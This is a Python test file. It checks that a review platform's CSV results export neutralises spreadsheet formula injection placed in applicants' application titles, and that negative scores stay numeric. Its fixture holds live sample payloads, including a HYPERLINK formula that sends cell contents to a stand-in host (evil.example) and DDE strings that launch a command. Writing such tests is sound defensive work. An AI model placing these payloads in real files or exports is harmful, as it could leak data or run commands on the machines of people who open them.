"""Hostile applicants choose application titles that a spreadsheet would run as formulas, or that
would break the export's rows; the admin closes the round and opens ``results.csv``. Every text
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return comes out prefixed
with ``'``, a cell holding a carriage return or a line feed is quoted, and the numbers the server
computed (negative ones too: a criterion may range below zero) stay numbers."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from fastapi import FastAPI
from fastapi.testclient import TestClient

from models.identity import Role
from tests.factories import Clock, bearer, make_principal, make_token, ok

T0 = datetime(2026, 11, 29, 9, 0, tzinfo=UTC)

# title -> the cell a spreadsheet must get
TITLES = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")': (
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    ),
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "a\nb": "a\nb",
    "a\rb=1": "a\rb=1",
    "Plain, with a comma": "Plain, with a comma",
}


def test_export_cells_are_neutralized(app: FastAPI, client: TestClient) -> None:
    clock = Clock(T0)
    app.state.clock = clock
    admin_user, _ = make_principal(app, roles=[Role.admin])

    def admin() -> dict[str, str]:
        return bearer(make_token(app, admin_user))

    program = ok(client.post("/api/v1/programs", json={"name": "Exports"}, headers=admin()), 201)
    round_ = ok(
        client.post(
            f"/api/v1/programs/{program['id']}/rounds",
            json={
                "name": "Stage 1",
                "opens_at": (T0 - timedelta(hours=1)).isoformat(),
                "submission_deadline": (T0 + timedelta(hours=1)).isoformat(),
                "grace_seconds": 0,
                "review_deadline": (T0 + timedelta(days=10)).isoformat(),
                "criteria": [
                    {"key": "tech", "title": "Technology", "weight": 1, "min": -10, "max": 10}
                ],
                "gates": [],
                "required_documents": [],
                "reviewers_per_application": 1,
                "shortlist": {"size": 2, "tie_break": ["criterion:tech", "submitted_at"]},
            },
            headers=admin(),
        ),
        201,
    )
    rid = round_["id"]
    ok(client.post(f"/api/v1/rounds/{rid}/open", headers=admin()))
    title_of: dict[str, str] = {}
    for i, title in enumerate(TITLES):
        _, headers = make_principal(app, roles=[Role.applicant])
        org = ok(
            client.post(
                "/api/v1/organizations",
                json={"name": f"Bidder {i}", "registration_number": f"R-{i}", "country": "KR"},
                headers=headers,
            ),
            201,
        )
        application = ok(
            client.post(
                f"/api/v1/rounds/{rid}/applications",
                json={"title": title, "summary": "s", "lead_organization_id": org["id"]},
                headers=headers,
            ),
            201,
        )
        assert application["title"] == title
        ok(client.post(f"/api/v1/applications/{application['id']}/submit", headers=headers))
        title_of[application["id"]] = title

    clock.now = T0 + timedelta(hours=2)
    ok(client.post(f"/api/v1/rounds/{rid}/start-review", headers=admin()))
    reviewer, reviewer_headers = make_principal(app, roles=[Role.reviewer])
    panel = {"user_id": str(reviewer.id), "max_assignments": len(TITLES)}
    ok(client.post(f"/api/v1/rounds/{rid}/reviewers", json=panel, headers=admin()), 201)
    auto = {"dry_run": False}
    ok(client.post(f"/api/v1/rounds/{rid}/assignments/auto", json=auto, headers=admin()))
    assignments = ok(client.get("/api/v1/me/assignments", headers=reviewer_headers))["items"]
    assert len(assignments) == len(TITLES)
    for n, assignment in enumerate(assignments):
        path = f"/api/v1/assignments/{assignment['id']}/review"
        body = {"scores": {"tech": n - 6}, "gates": {}}  # some totals below zero
        review = client.put(path, json=body, headers=reviewer_headers)
        assert review.status_code == 201, review.text
        headers = {**reviewer_headers, "If-Match": review.headers["etag"]}
        ok(client.post(f"{path}/submit", headers=headers))
    ok(client.post(f"/api/v1/rounds/{rid}/close", json={}, headers=admin()))

    exported = client.get(f"/api/v1/rounds/{rid}/results.csv", headers=admin())
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    # A carriage return or line feed is only ever inside a quoted cell.
    for line in exported.text.split("\n")[:-1]:
        assert "\r" not in line or line.count('"') >= 2
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert {r["application_id"] for r in rows} == set(title_of)
    negative = 0
    for row in rows:
        assert row["title"] == TITLES[title_of[row["application_id"]]]
        for name, cell in row.items():
            if name == "title":
                continue
            # Every other cell is the server's: a number, an id, a word; never a quote-prefix.
            assert not cell.startswith("'"), (name, cell)
        total = Decimal(row["total"])
        assert total == Decimal(row["criterion:tech"])
        negative += total < 0
    assert negative >= 3  # negative numbers are written as numbers
